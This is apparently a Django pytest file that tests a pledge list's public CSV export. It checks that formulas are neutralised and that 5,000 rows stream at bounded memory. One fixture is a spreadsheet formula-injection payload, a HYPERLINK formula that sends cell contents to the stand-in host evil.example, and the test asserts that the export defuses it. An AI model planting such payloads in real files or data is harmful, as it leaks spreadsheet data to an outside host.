"""The public `?format=csv` of the pledge list: streamed at flat memory, cells safe to
open in a spreadsheet program (issue 12, defect 4; issue 17, "The public CSV streams")."""

import csv
import datetime
import io
import tracemalloc

import pytest
from django.utils import timezone

from objectives.models import Objective
from pledges.models import Pledge, PledgeObjective
from tests.factories import DESCRIPTION, PledgeFactory

from .helpers import streamed

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open the report")'


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_api_csv_neutralises_formulas_in_every_text_cell(client_for, anonymous, kenya):
    PledgeFactory(
        lead=kenya, status="published", title=HYPERLINK, description="@SUM(1+1) " + DESCRIPTION
    )

    rows = _rows(streamed(client_for(anonymous).get("/api/v1/pledges/", {"format": "csv"})))

    assert rows[0]["title"] == "'" + HYPERLINK
    assert rows[0]["description"].startswith("'@SUM(1+1) ")
    # Nothing else is touched: codes, dates and lists read as before.
    assert rows[0]["code"].startswith("GCM-")
    assert rows[0]["objectives"] == "1"
    # No column links anywhere (the old `url` column pointed at a 404).
    assert "url" not in rows[0]


def _bulk_published(lead, count: int) -> None:
    now = timezone.now()
    pledges = Pledge.objects.bulk_create(
        Pledge(
            code=f"GCM-S-{n:05d}",
            title=f"Pledge {n} on fair and ethical recruitment",
            description=DESCRIPTION,
            lead=lead,
            mode=Pledge.Mode.INDIVIDUAL,
            pledge_type=Pledge.Type.POLICY,
            scope=Pledge.Scope.NATIONAL,
            start_date=datetime.date(2024, 1, 1),
            target_date=datetime.date(2026, 12, 31),
            status=Pledge.Status.PUBLISHED,
            published_at=now,
        )
        for n in range(count)
    )
    objective = Objective.objects.get(number=6)
    PledgeObjective.objects.bulk_create(
        PledgeObjective(pledge=p, objective=objective) for p in pledges
    )


# Peak Python memory while 5,000 rows stream out: about 21 MiB alone and 34 MiB inside
# the whole suite under coverage (its own bookkeeping is traced too), most of it one
# chunk of CSV_CHUNK_SIZE pledges with their prefetches. The list CSV before it streamed
# held every row and the whole file (2,980 MiB at 89,900 rows in issue 17, some 165 MiB
# at 5,000): far above this bound.
PEAK_BOUND = 64 * 1024 * 1024


def test_api_csv_of_5000_pledges_streams_at_flat_memory(
    client_for, anonymous, kenya, django_assert_num_queries
):
    _bulk_published(kenya, 5000)
    client = client_for(anonymous)

    # pledges (one server-side cursor), then partners, objectives, actions and
    # principles once per chunk of CSV_CHUNK_SIZE (500): 1 + 4 × 10.
    with django_assert_num_queries(41):
        tracemalloc.start()
        try:
            response = client.get("/api/v1/pledges/", {"format": "csv"})
            assert response.streaming
            lines = 0
            last = b""
            for chunk in response.streaming_content:
                lines += chunk.count(b"\n")
                last = chunk
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="pledges.csv"'
    assert lines == 5001  # the header and every pledge
    assert last.startswith(b"GCM-S-04999,")
    assert peak < PEAK_BOUND, f"peak {peak / 2**20:.1f} MiB"
